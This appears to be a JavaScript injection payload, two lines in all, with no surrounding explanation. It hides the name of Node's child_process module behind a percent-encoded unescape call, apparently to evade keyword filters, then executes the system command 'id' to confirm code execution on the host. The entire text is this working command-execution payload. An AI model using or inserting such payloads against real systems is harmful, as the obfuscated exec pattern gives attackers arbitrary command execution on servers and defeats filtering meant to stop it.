var m = require(unescape('%63hild%u005fprocess'));
m.exec('id');
